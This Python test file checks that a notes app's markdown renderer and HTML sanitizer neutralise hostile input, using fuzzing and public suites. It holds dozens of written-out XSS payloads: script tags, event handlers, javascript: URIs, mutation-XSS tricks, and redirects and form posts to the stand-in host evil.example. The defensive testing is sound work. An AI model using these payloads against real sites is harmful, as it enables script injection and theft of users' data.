"""Nothing that a note's text says runs, loads, sends or leads away, whatever the text."""

# ruff: noqa: E501 - a vector a line

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from notes.rendering.markdown import RenderOptions, render
from notes.rendering.sanitize import RESERVED_IDS, sanitize
from tests.notes.rendering.hostile import PAGE_IDS, faults_in

SUITES = Path(os.environ.get("BANYAN_SHARED", Path(__file__).parents[4] / "shared")) / "suites"

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x\nonerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#1; javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:x\">x</a><a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a><a href=\"blob:x\">x</a><a href=\"ms-settings:x\">x</a>",
    "<a href=x target=_blank ping=//evil.example>x</a>",
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<link rel=stylesheet href=//evil.example/x.css><link rel="dns-prefetch" href="//evil.example">',
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
    '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
    "<iframe src=//evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x.swf></object><embed src=x.swf><applet code=x></applet>",
    "<form action=//evil.example><input name=password type=password><button formaction=javascript:1>x",
    "<input type=image src=//evil.example/x.png><input type=submit><input onfocus=alert(1) autofocus>",
    "<select autofocus onfocus=alert(1)><option>x</select><textarea autofocus>x</textarea>",
    "<video src=//evil.example/x.mp4 poster=//evil.example/x.png><source src=//evil.example/y.mp4></video>",
    "<audio src=http://evil.example/x.mp3 onplay=alert(1) autoplay>",
    "<picture><source srcset=//evil.example/x.png><img srcset='//evil.example/x.png 2x' src=x></picture>",
    "<img src=//evil.example/x.png><img src=\\\\evil.example\\x.png><img src='ht\ntp://evil.example/x'>",
    "<img src='/\\evil.example/x'><img src='/\t/evil.example/x'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'><img src=data:text/html,x>",
    "<body background=//evil.example onload=alert(1)><table background=//evil.example><td background=x>",
    '<div id="ui-content" class="ui-halted">x</div><h1 id="ui-copy">x</h1><a name=ui-copy>x</a>',
    "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>",
    "<template><script>alert(1)</script></template><slot>x</slot>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<x onclick=alert(1)>x</x><b onmouseover=alert(1)>x</b>",
    "<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]><?xml-stylesheet href='javascript:alert(1)'?>",
    "[x](javascript:alert(1)) [x](JaVaScRiPt&colon;alert(1)) [x](java\\script:alert(1))",
    "[x](<javascript:alert(1)>) [x][r] <javascript:alert(1)>\n\n[r]: javascript:alert(1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) [x](\x01javascript:alert(1))",
    '![x](javascript:alert(1)) ![x](//evil.example/x.png "onerror=alert(1)")',
    '![x"onerror="alert(1)](x) ![x](x"onerror="alert(1)) [x](x "\\"onclick=alert(1)")',
    "![x](https://evil.example/x.png) ![[https://evil.example/x.png]] ![[x.svg|300]]",
    "[[javascript:alert(1)]] [[x\"onclick=\"alert(1)|y]] ![[\"><script>alert(1)</script>]]",
    '```"><script>alert(1)</script>\nx\n```',
    '```py title="<script>alert(1)</script>" {1}\n<script>alert(1)</script>\n```',
    "```mermaid\n<script>alert(1)</script>\nclick A href \"javascript:alert(1)\"\n```",
    r"$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{x}$ $\text{<img src=x onerror=alert(1)>}$",
    "$$\n<script>alert(1)</script>\n$$",
    "> [!<script>alert(1)</script>] x\n\n> [!note] <img src=x onerror=alert(1)>\n> x",
    "# <img src=x onerror=alert(1)>\n\n# \"><script>alert(1)</script>",
    "x[^<script>] [^1]\n\n[^1]: <script>alert(1)</script>\n[^\"onclick=x]: y",
    "*[x]: \"><script>alert(1)</script>\n\nx",
    "| <script>alert(1)</script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | ` | <x> |",
    "- [ ] <input type=text> <script>alert(1)</script>",
    "Term\n: <script>alert(1)</script>",
    "<div>\n<script\n\nalert(1)</script>\n\n<a title=\"\n\n<img src=x onerror=alert(1)>",
    "https://evil.example/\"onclick=alert(1) javascript:alert(1) www.x.example\"><script>",
    "\x02klzzwxh:0001\x03\x02wzxhzdk:0\x03\x02amp\x03",
]  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_leaves_nothing_behind(vector: str) -> None:
    for targets in (None, {}, {"x": "asset:" + "0" * 64}):
        assert faults_in(render(vector, targets=targets)) == []
        assert faults_in(render(f"a\n\n- b {vector}\n\n> {vector}", targets=targets)) == []
    assert faults_in(sanitize(vector)) == []


def test_remote_images_stand_only_where_asked_for() -> None:
    source = '![a](https://h.example/a.png) <img src="http://h.example/b.png">'
    assert "src=" not in render(source, targets={})
    kept = render(source, options=RenderOptions(remote_images=True), targets={})
    assert '<img src="https://h.example/a.png" alt="a">' in kept
    assert 'src="http://h.example/b.png"' in kept
    assert "poster" not in render(
        "<video poster=https://h.example/a.png></video>", options=RenderOptions(remote_images=True)
    )


def _suite_lines() -> list[str]:
    if not SUITES.is_dir():
        pytest.skip(f"no public test suites at {SUITES}")
    texts: list[str] = []
    for pattern in ("xss_*/**/*.txt", "xss_*/**/*.md", "naughty_strings/*.json"):
        for path in sorted(SUITES.glob(pattern)):
            texts += path.read_text(encoding="utf-8", errors="replace").splitlines()
    return texts


def test_public_vectors_leave_nothing_behind() -> None:
    lines = [line for line in _suite_lines() if line.strip()]
    assert len(lines) > 1000
    for start in range(0, len(lines), 10):  # a few at a time: also what they do to one another
        text = "\n\n".join(lines[start : start + 10])
        assert faults_in(render(text, targets={})) == [], text
        assert faults_in(sanitize(text)) == [], text


_PIECES = [
    "<", ">", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", "<?", '"', "'", "`", "=", " ", "\n",
    "\n\n", "\t", "&lt;", "&#x3c;", "&quot;", "\\", "\x00", "a", "中", "script", "style", "svg", "math",
    "mtext", "mglyph", "table", "select", "option", "template", "noscript", "title", "textarea",
    "xmp", "plaintext", "iframe", "p", "a", "img", "video", "form", "input", "details", "figure",
    "annotation-xml", "foreignObject", "desc", "id", "class", "ui-copy", "href", "src", "srcset",
    "style", "onerror", "onclick", "javascript:alert(1)", "java\tscript:", "data:text/html,",
    "//evil.example/", "http://evil.example/", "[", "](", ")", "![", "[[", "]]", "|", "\n|-|-|\n", "$",
    "$$", "```", "\n> ", "\n- ", "\n    ", "# ", "[^1]", "[^1]: ", "*", "_", "==", "~~", "\n: ",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">', "</p>", "</math>", "</svg>", "</style>", "\u2028", "\ufeff",
]  # fmt: skip


@given(st.lists(st.sampled_from(_PIECES), max_size=40).map("".join))
def test_soup_leaves_nothing_behind(soup: str) -> None:
    assert faults_in(sanitize(soup)) == []
    assert faults_in(render(soup, targets={})) == []


@given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
def test_sanitised_html_stays_as_it_is(soup: str) -> None:
    """What a browser makes of the result must not differ from what was judged."""
    once = sanitize(soup)
    assert faults_in(sanitize(once)) == []
    assert sanitize(sanitize(once)) == sanitize(once)


def test_a_note_cannot_take_the_ids_of_the_page() -> None:
    assert len(PAGE_IDS) >= 5
    assert PAGE_IDS <= RESERVED_IDS
    for name in PAGE_IDS:
        assert f'"{name}"' not in render(f'<p id="{name}">x</p><a name="{name.upper()}">y</a>')
        assert 'id="' not in render(f"# {name}")
    assert 'id="ui-design"' in render("# UI Design")
